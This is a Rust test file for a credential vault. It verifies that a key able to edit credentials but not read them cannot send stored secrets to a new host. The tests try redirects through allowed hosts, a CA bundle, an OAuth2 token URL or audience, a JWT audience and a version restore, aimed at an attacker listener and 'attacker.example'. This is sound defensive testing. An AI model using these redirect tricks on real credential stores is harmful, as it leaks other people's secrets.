//! Finding 1: a key that may change a credential but not read it must not be able to send
//! its secret somewhere new. For every type and every field that names a destination
//! (`allowedHosts`, `caBundle`, an OAuth2 `tokenUrl` or `audience`, a JWT `aud`), and through a
//! version restore: refused without the secret re-entered or `credentials:route`, on
//! SQLite and PostgreSQL; the attacker's listener never sees the stored secret.

use base64::Engine as _;

use super::*;

/// One credential of each type, sent to `legit`, with the forms its secret takes on the
/// wire (a Basic header carries it base64-encoded).
fn victims(legit: &Upstream) -> Vec<(Value, Vec<String>)> {
    let hosts = json!([legit.origin()]);
    let basic = |user: &str, secret: &str| {
        base64::engine::general_purpose::STANDARD.encode(format!("{user}:{secret}"))
    };
    let mut out = Vec::new();
    for kind in [
        "api_key",
        "bearer_token",
        "basic_auth",
        "oauth2",
        "jwt",
        "custom",
    ] {
        let secret = canary(kind);
        let body = match kind {
            "api_key" | "bearer_token" => json!({"value": secret}),
            "basic_auth" => json!({"username": "u", "password": secret}),
            "oauth2" => json!({"clientId": "client", "clientSecret": secret,
                               "tokenUrl": legit.url("/token"), "audience": "api"}),
            "jwt" => json!({"algorithm": "HS256", "secret": secret, "claims": {"aud": "api"}}),
            _ => json!({"headers": {"X-Secret": secret}}),
        };
        let mut body = body.as_object().expect("object").clone();
        body.insert("name".into(), json!(kind));
        body.insert("type".into(), json!(kind));
        body.insert("allowedHosts".into(), hosts.clone());
        let forms = vec![
            secret.clone(),
            basic("u", &secret),
            basic("client", &secret),
        ];
        out.push((Value::Object(body), forms));
    }
    out
}

/// The same type's secret fields with a fresh value: what re-entering the secret sends.
fn reentered(kind: &str, secret: &str) -> Value {
    match kind {
        "api_key" | "bearer_token" => json!({"value": secret}),
        "basic_auth" => json!({"password": secret}),
        "oauth2" => json!({"clientSecret": secret}),
        "jwt" => json!({"secret": secret}),
        _ => json!({"headers": {"X-Secret": secret}}),
    }
}

fn merged(a: &Value, b: &Value) -> Value {
    let mut out = a.as_object().expect("object").clone();
    out.extend(b.as_object().expect("object").clone());
    Value::Object(out)
}

/// Every request the attacker's listener got, as text, holds none of `forms`.
fn saw_none(attacker: &Upstream, forms: &[String], what: &str) {
    let mut seen = attacker.requests();
    seen.extend(attacker.state.token_requests.lock().expect("lock").clone());
    for request in seen {
        let text = format!(
            "{:?} {:?} {}",
            request.headers,
            request.query,
            String::from_utf8_lossy(&request.body)
        );
        for form in forms {
            assert!(
                !text.contains(form),
                "{what}: the stored secret reached the attacker"
            );
        }
    }
}

/// A use of `id` with `token`: `GET url`.
async fn use_at(vault: &TestApp, token: &str, id: &str, url: &str) -> Reply {
    let call = json!({"method": "GET", "url": url});
    vault.api.proxy(id, token, &call).await
}

/// The newest audit event about `id` (any outcome).
async fn last_event(vault: &TestApp, id: &str) -> Value {
    let events = vault
        .api
        .get_json("/audit-events?limit=100", &vault.token)
        .await;
    events["items"]
        .as_array()
        .expect("items")
        .iter()
        .find(|e| e["targetId"] == id)
        .cloned()
        .unwrap_or_else(|| panic!("no audit event for {id}: {events}"))
}

#[tokio::test]
async fn a_writer_cannot_send_a_stored_secret_to_a_new_destination() {
    for backend in Backend::ALL {
        let Some(vault) = start_on(backend, true).await else {
            continue;
        };
        let legit = start_upstream().await;
        let attacker = start_upstream().await;
        // What the review's attacker held: write and use, not read of secrets (nobody has that).
        let AccessKey { secret: writer, .. } = vault
            .api
            .access_key(
                &vault.token,
                "k",
                &[
                    "credentials:read",
                    "credentials:write",
                    "credentials:use-all",
                ],
            )
            .await;
        let both = json!([legit.origin(), attacker.origin()]);
        for (body, forms) in victims(&legit) {
            let kind = body["type"].as_str().expect("type").to_owned();
            let id = vault.api.create_credential(&vault.token, &body).await.id();
            let before = vault
                .api
                .get_json(&format!("/credentials/{id}"), &vault.token)
                .await;

            // Trusting the attacker's own CA would let a listener that holds its key pose as
            // an allowed host.
            let attacker_ca = rcgen::generate_simple_self_signed(vec!["attacker.example".into()])
                .expect("a certificate")
                .cert
                .pem();
            let mut attempts = vec![
                json!({"allowedHosts": both}),
                json!({"caBundle": attacker_ca}),
            ];
            match kind.as_str() {
                "oauth2" => {
                    attempts
                        .push(json!({"tokenUrl": attacker.url("/token"), "allowedHosts": both}));
                    attempts.push(json!({"tokenUrl": legit.url("/token?tenant=evil")}));
                    attempts.push(json!({"audience": "https://attacker.example/"}));
                }
                "jwt" => attempts.push(json!({"claims": {"aud": "attacker"}})),
                _ => {}
            }
            for attempt in &attempts {
                let reply = vault.api.update_credential(&id, &writer, attempt).await;
                assert_eq!(
                    reply.problem(),
                    (StatusCode::FORBIDDEN, "route-not-allowed".to_owned()),
                    "{backend:?} {kind} {attempt}: {}",
                    reply.body
                );
                reply.reveals_none(&forms.iter().map(String::as_str).collect::<Vec<_>>());
                let event = last_event(&vault, &id).await;
                assert_eq!(event["outcome"], "failure", "{kind}: {event}");
                assert_eq!(event["reason"], "route-not-allowed", "{kind}: {event}");
            }
            assert_eq!(
                vault
                    .api
                    .get_json(&format!("/credentials/{id}"), &vault.token)
                    .await,
                before,
                "{backend:?} {kind}: a refused change changed the credential"
            );
            let refused = use_at(&vault, &writer, &id, &attacker.url("/record/x")).await;
            assert_eq!(refused.problem().1, "destination-not-allowed", "{kind}");
            saw_none(&attacker, &forms, &kind);

            // Widening with the secret re-entered is allowed: then only the caller's own
            // secret can go there.
            let own = canary("attackers-own");
            let widened = vault
                .api
                .update_credential(
                    &id,
                    &writer,
                    &merged(&json!({"allowedHosts": both}), &reentered(&kind, &own)),
                )
                .await;
            assert_eq!(widened.status, StatusCode::OK, "{kind}: {}", widened.body);
            let event = last_event(&vault, &id).await;
            assert_eq!(event["outcome"], "success", "{kind}: {event}");
            assert_eq!(
                event["reason"], "destinations-added:secret-reentered",
                "{kind}: the audit event says what authorised the new destination"
            );
            let sent = use_at(&vault, &writer, &id, &attacker.url("/record/x")).await;
            assert_eq!(sent.status, StatusCode::OK, "{kind}: {}", sent.body);

            // The version holding the stored secret was entered for fewer destinations:
            // restoring it would send it to the attacker, so it needs the route scope.
            let restore = vault.api.restore_version(&id, 1, &writer).await;
            assert_eq!(
                restore.problem(),
                (StatusCode::FORBIDDEN, "route-not-allowed".to_owned()),
                "{backend:?} {kind}: {}",
                restore.body
            );
            let again = use_at(&vault, &writer, &id, &attacker.url("/record/y")).await;
            assert_eq!(again.status, StatusCode::OK, "{kind}: {}", again.body);
            saw_none(&attacker, &forms, &kind);

            // Narrowing is free; adding the same host back is adding.
            let one = json!({"allowedHosts": [legit.origin()]});
            let narrowed = vault.api.update_credential(&id, &writer, &one).await;
            assert_eq!(narrowed.status, StatusCode::OK, "{kind}: {}", narrowed.body);
            let back = vault
                .api
                .update_credential(&id, &writer, &json!({"allowedHosts": both}))
                .await;
            assert_eq!(
                back.problem().1,
                "route-not-allowed",
                "{kind}: re-adding is adding"
            );
        }
    }
}

#[tokio::test]
async fn the_route_scope_adds_destinations_and_restores_and_the_audit_says_so() {
    for backend in Backend::ALL {
        let Some(vault) = start_on(backend, true).await else {
            continue;
        };
        let legit = start_upstream().await;
        let other = start_upstream().await;
        let AccessKey { secret: writer, .. } = vault
            .api
            .access_key(
                &vault.token,
                "k",
                &["credentials:write", "credentials:use-all"],
            )
            .await;
        let AccessKey { secret: router, .. } = vault
            .api
            .access_key(
                &vault.token,
                "k",
                &["credentials:write", "credentials:route"],
            )
            .await;
        let first = canary("first");
        let id = vault
            .api
            .create_credential(
                &vault.token,
                &json!({"name": "routed", "type": "bearer_token", "value": first,
                        "allowedHosts": [legit.origin()]}),
            )
            .await
            .id();
        let second = canary("second");
        let rotated = vault
            .api
            .update_credential(&id, &writer, &json!({"value": second}))
            .await;
        assert_eq!(rotated.status, StatusCode::OK, "{}", rotated.body);
        // Without widening, a writer restores freely.
        let restored = vault.api.restore_version(&id, 1, &writer).await;
        assert_eq!(restored.status, StatusCode::OK, "{}", restored.body);

        let widened = vault
            .api
            .update_credential(
                &id,
                &router,
                &json!({"allowedHosts": [legit.origin(), other.origin()]}),
            )
            .await;
        assert_eq!(
            widened.status,
            StatusCode::OK,
            "{backend:?}: {}",
            widened.body
        );
        let event = last_event(&vault, &id).await;
        assert_eq!(
            event["reason"], "destinations-added:credentials-route",
            "{event}"
        );
        // The current values (version 3) were routed by the scope; version 2 was not.
        for (version, writer_may) in [(3, true), (2, false)] {
            let by_writer = vault.api.restore_version(&id, version, &writer).await;
            if writer_may {
                assert_eq!(
                    by_writer.status,
                    StatusCode::OK,
                    "{backend:?}: {}",
                    by_writer.body
                );
            } else {
                assert_eq!(by_writer.problem().1, "route-not-allowed", "{backend:?}");
                let by_router = vault.api.restore_version(&id, version, &router).await;
                assert_eq!(by_router.status, StatusCode::OK, "{}", by_router.body);
            }
        }
        // A key can hand on the route scope only if it holds it.
        let AccessKey {
            secret: manager, ..
        } = vault
            .api
            .access_key(
                &vault.token,
                "k",
                &["access-keys:manage", "credentials:write"],
            )
            .await;
        let escalate = vault
            .api
            .call(
                Method::POST,
                "/access-keys",
                &manager,
                Some(&json!({"name": "x", "scopes": ["credentials:route"]})),
            )
            .await;
        assert_eq!(
            escalate.problem().1,
            "scope-escalation",
            "{}",
            escalate.body
        );
    }
}
